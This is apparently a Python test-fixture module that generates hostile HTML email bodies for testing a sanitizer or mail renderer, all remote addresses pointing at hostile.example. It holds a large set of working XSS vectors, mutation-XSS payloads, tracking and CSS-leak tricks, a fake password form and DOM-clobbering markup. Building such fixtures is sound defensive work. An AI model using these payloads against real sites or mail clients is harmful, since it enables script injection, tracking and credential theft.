# ruff: noqa: E501 (samples are on one line, as published)
"""Hostile messages. Every address in them has its own host name below `hostile.example`."""

from itertools import count

_hosts = count(1)


def far(kind: str = "x", scheme: str = "http") -> str:
    """Return an address that was not used before."""
    return f"{scheme}://{kind}-{next(_hosts)}.hostile.example/it.png"


_RELATIONS = (
    "stylesheet icon preload prefetch preconnect dns-prefetch manifest modulepreload prerender next alternate import"
)
_EVENTS = (
    "onload onerror onclick onmouseover onfocus onpointerenter onanimationstart ontoggle onbeforetoggle onwheel"
    " onscroll onresize onpageshow onbegin ontransitionend oncontentvisibilityautostatechange"
)
_RUN = "window.top.pwned=window.pwned=1;localStorage.x=1;alert(1)"


def scripts() -> str:
    """Return markup with every way to run a script."""
    events = "".join(f'<div {name}="{_RUN}" tabindex=0 autofocus>{name}</div>' for name in _EVENTS.split())
    return f"""<script>{_RUN}</script><script src="{far("script")}"></script><script type=module src="{far()}"></script>
<img src=x onerror="{_RUN}"><body onload="{_RUN}"><svg onload="{_RUN}"><style><img src=x onerror="{_RUN}"></style></svg>
{events}<a href="javascript:{_RUN}">script link</a><a href="java&#10;script:{_RUN}">split link</a>
<a href="&#1;javascript:{_RUN}">control link</a><a href="vbscript:msgbox(1)">vb link</a>
<a href="data:text/html,<script>{_RUN}</script>">data link</a><a href="blob:https://x/1">blob link</a>
<a href="{far("honest")}" target=_top ping="{far("ping")}" download>far link</a><area href="{far()}" shape=default>
<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>"""


def loads() -> str:
    """Return markup with every attribute that loads something."""
    links = "".join(f'<link rel="{one}" href="{far(one)}" as=image>' for one in _RELATIONS.split())
    secure = "".join(f'<link rel="{one}" href="{far(one, "https")}">' for one in ("preconnect", "dns-prefetch"))
    return f"""<head><base href="{far("base")}"><meta http-equiv=refresh content="0;url={far("refresh")}">
<meta http-equiv=x-dns-prefetch-control content=on><meta http-equiv=Content-Security-Policy content="default-src *">
{links}{secure}</head><body background="{far("background")}">
<img src="{far("src")}" alt="a remote picture"><img srcset="{far("srcset")} 1x, {far()} 2x"><img src="//{far()[7:]}">
<img src="{far("lazy")}" loading=lazy><img src="{far()}" longdesc="{far("longdesc")}" usemap="{far()}">
<picture><source srcset="{far("source")}" media=all><img src="{far()}"></picture>
<table background="{far()}"><tr background="{far()}"><td background="{far("td")}">cell</td></tr></table>
<video src="{far("video")}" poster="{far("poster")}" autoplay><track src="{far("track")}" default></video>
<audio src="{far("audio")}" autoplay controls></audio><embed src="{far("embed")}">
<iframe src="{far("iframe")}" srcdoc="<img src={far()}>"></iframe><iframe srcdoc="<img src={far()}>"></iframe>
<object data="{far("object")}"><img src="{far()}"></object><object><param name=movie value="{far()}"></object>
<portal src="{far()}"></portal><fencedframe src="{far()}"></fencedframe><applet code="{far()}"></applet>
<frameset><frame src="{far()}"></frameset><bgsound src="{far()}"><input type=image src="{far("input")}">
<blockquote cite="{far("cite")}">quoted</blockquote><q cite="{far()}">q</q><image src="{far()}"></image>
<isindex src="{far()}"><command icon="{far()}"><html manifest="{far()}"><div data="{far()}" src="{far()}">div</div>
<script type=speculationrules>{{"prefetch":[{{"urls":["{far()}"]}}]}}</script>"""


def styles() -> str:
    """Return markup with every style that loads, covers or moves something."""
    inline = (
        f"background:url({far()})",
        f"background-image:image-set(url({far()}) 1x)",
        f"background:u\\72l({far()})",
        f"cursor:url({far()}),auto",
        f"list-style:url({far()})",
        f"border-image:url({far()}) 1",
        f"content:url({far()})",
        f"filter:url({far()}#a)",
        f"mask:url({far()})",
        f"clip-path:url({far()}#a)",
        f"--x:url({far()});background:var(--x)",
        f"shape-outside:url({far()})",
        f"offset-path:url({far()}#a)",
        f"behavior:url({far()})",
        f"-moz-binding:url({far()}#a)",
        "position:fixed;inset:0;z-index:9999;background:red",
        "position:absolute;top:-9999px",
        "animation:spin 1ms infinite",
        "height:100vh;margin-top:100vh",
        "transform:scale(100)",
        "width:expression(alert(1))",
        f"background:image(url({far()}));background:cross-fade(url({far()}),red)",
        f'background:src("{far()}")',
    )
    pieces = "".join(f"<p style='{one}'>styled</p>" for one in inline)
    return f"""<head><style>@import url({far("import")}); @import "{far()}"; @\\69mport "{far("escaped")}";
@font-face {{ font-family: Far; src: url({far("font")}) }} @keyframes spin {{ to {{ background: url({far()}) }} }}
@namespace url({far()}); @property --y {{ syntax: "<url>"; inherits: false; initial-value: url({far()}) }}
body, p {{ background: url({far("css")}); font-family: Far; animation: spin 1s infinite }} p:hover {{ background: url({far()}) }}
p:focus, a:active {{ cursor: url({far()}), auto }} p::before {{ content: url({far()}) }} p::after {{ content: "pretended" }}
@media screen {{ p {{ background: url({far("media")}) }} }} @supports (color: red) {{ p {{ list-style: url({far()}) }} }}
@layer x {{ p {{ mask: url({far()}) }} }} @container (width > 1px) {{ p {{ mask: url({far()}) }} }}
p {{ & i {{ background: url({far("nested")}) }} }} @scope (p) {{ i {{ background: url({far()}) }} }}
input[value^=a] {{ background: url({far()}) }} html {{ display: none !important }} body {{ position: fixed; opacity: 0 !important }}
@page {{ background: url({far()}) }} a[title^="h"] {{ background: u\\rl({far()}) }} .ok {{ color: rgb(1, 2, 3) }}
</style><link rel=stylesheet href="data:text/css,p{{background:url({far()})}}"></head>
{pieces}<p><i>nested</i></p><p class=ok>kept</p><style></style><svg><style>p {{ background: url({far()}) }}</style></svg>"""


def foreign() -> str:
    """Return hostile SVG and MathML."""
    return f"""<svg width=300 height=300><image href="{far()}" xlink:href="{far()}"/><use href="{far()}#a"/>
<use xlink:href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href='{far()}'/></svg>#x"/>
<feImage href="{far()}"/><script href="{far()}">{_RUN}</script><foreignObject><img src="{far()}"><iframe src="{far()}">
</iframe></foreignObject><a xlink:href="javascript:{_RUN}"><text y=20>svg link</text></a><animate attributeName=href
values="javascript:{_RUN}" onbegin="{_RUN}"/><set attributeName=href to="{far()}"/><rect fill="url({far()}#g)"
style="fill:url({far()}#g)"/><style>@import "{far()}";</style></svg>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">
<math href="javascript:{_RUN}"><maction actiontype="statusline#{far()}" xlink:href="{far()}">m</maction>
<mglyph src="{far()}"></mglyph><annotation-xml encoding=text/html><img src="{far()}"></annotation-xml></math>"""


def forms() -> str:
    """Return markup that asks, opens, takes the focus, or takes names of the page."""
    names = "body head cookie forms location getElementById querySelector attributes childNodes nodeName ownerDocument"
    taken = "".join(f'<img name="{one}" id="{one}"><a id="{one}" name="{one}"></a>' for one in names.split())
    return f"""<form action="{far("form")}" id=f><input name=password type=password autofocus value=a>
<button formaction="{far()}" formtarget=_top>Sign in</button><input type=submit><input type=image src="{far()}">
<select autofocus><option>o</select><textarea autofocus>t</textarea><keygen><input name=attributes></form>
<button form=f formaction="javascript:{_RUN}">Outside</button><label for=f>label</label><isindex>
<details open ontoggle="{_RUN}"><summary>s</summary><img src="{far()}"></details><dialog open>dialog</dialog>
<div popover=auto id=p>popover</div><button popovertarget=p commandfor=p command=show-popover>p</button>
<template><img src="{far()}"></template><div><template shadowrootmode=open><img src="{far()}"><slot></slot></template></div>
<div contenteditable autofocus>edit</div><div tabindex=1 accesskey=x role=dialog aria-label="Sign in again">role</div>
<marquee onstart="{_RUN}">m</marquee><menu type=context><menuitem label=x></menu>{taken}<x-element is=x></x-element>
<plaintext><img src="{far()}">"""


def large() -> str:
    """Return two megabytes of markup, deep and wide."""
    row = '<tr><td style="padding:4px" class=a onclick="x()"><b>{}</b></td><td>cell<img src="{}"></td></tr>'
    wide = "".join(row.format("many words " * 50, f"http://wide-{one}.hostile.example/") for one in range(3_000))
    return f"<table>{wide}</table>{'<div>' * 5_000}deep{'</div>' * 5_000}"


#: Samples that are parsed differently after serialization (mutation XSS), and other known tricks.
MUTATIONS = tuple(
    one.replace("RUN", _RUN)
    for one in (
        '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror="RUN">',
        "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title=\"</textarea><img src='#' onerror='RUN'>\">",
        '<svg><desc><noscript><img title="</noscript><img src onerror=RUN>">',
        '<math><annotation-xml encoding="text/html"><xmp><img title="</xmp><img src onerror=RUN>">',
        '<noembed><img title="</noembed><img src onerror=RUN>"></noembed>',
        '<noframes><img title="</noframes><img src onerror=RUN>"></noframes>',
        '<title><a title="</title><img src onerror=RUN>">',
        "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
        '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>">',
        '<svg><title><style><a title="</style></title><img src=x onerror=RUN>">',
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img id='x' src=x onerror=RUN>\">",
        "<table><caption><svg><title><table><caption></caption></table></caption><img src=x onerror=RUN>",
        '<a><svg><desc><a><style><b title="</style><img src=x onerror=RUN>">',
        '<h1><h1><math><mi><table><mi><mglyph><style><img title="</style><img src=x onerror=RUN>">',
        "<iframe><!--</iframe><img src=x onerror=RUN>-->",
        "<!--><img src=x onerror=RUN>-->",
        "<!--!><img src=x onerror=RUN>--!>",
        "<![CDATA[><img src=x onerror=RUN>]]>",
        "<?xml-stylesheet ><img src=x onerror=RUN> ?>",
        "<svg><![CDATA[><img src=x onerror=RUN>]]></svg>",
        "<img src='x`' onerror=`RUN`>",
        '<a href="jav\tascript:RUN">tab</a><a href=" javascript:RUN">space</a><a href="JaVaScRiPt:RUN">case</a>',
        '<a href="https://good.example\\@evil.example/">back</a><a href="//evil.example">slashes</a>',
        '<div id="__proto__"><img id="constructor"></div>',
        "<div>" * 600 + "<style><!--</style><img title='--><img src=x onerror=RUN>'>" + "</div>" * 600,
        "<svg><a><style><p title='</style><iframe onload&#x3d;RUN>'></p></style></a></svg>",
        "<table><td background=javascript:RUN>x</table><body background=javascript:RUN>",
        '<b is="x" xmlns:x="y" x:onclick="RUN" data-address="javascript:RUN" data-cid=x role=dialog>data</b>',
        "<p style='color:red;background:\\75 rl(http://in-mutation.hostile.example/)'>escaped</p>",
        "<style></style x><img src=x onerror=RUN><style/>",
        "<search><title></title><a title='</title><img src=x onerror=RUN>'></search>",
        "<selectedcontent><b onclick=RUN>b</b></selectedcontent><customizable onclick=RUN>",
    )
)


def mails() -> dict[str, str]:
    """Return the HTML of each message by its subject."""
    makers = (scripts, loads, styles, foreign, forms, large)
    return {one.__name__: f"<p>Canary before.</p>{one()}" for one in makers}
